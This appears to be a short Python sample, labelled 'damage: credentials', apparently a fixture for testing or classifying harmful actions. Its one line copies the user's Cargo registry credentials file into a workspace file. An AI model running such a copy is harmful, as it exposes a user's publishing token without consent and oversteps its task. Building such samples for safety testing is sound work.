# Copied into the workspace.
# damage: credentials
import os
import shutil

shutil.copy(os.path.expanduser("~/.cargo/credentials.toml"), "made.toml")
